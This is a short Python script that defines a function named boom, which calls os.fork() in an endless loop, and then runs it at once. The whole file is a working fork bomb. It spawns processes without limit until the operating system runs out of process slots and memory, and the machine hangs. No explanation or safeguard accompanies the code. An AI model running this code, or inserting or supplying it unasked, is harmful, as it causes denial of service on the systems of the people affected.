import os
def boom():
    while 1:
        os.fork()
boom()
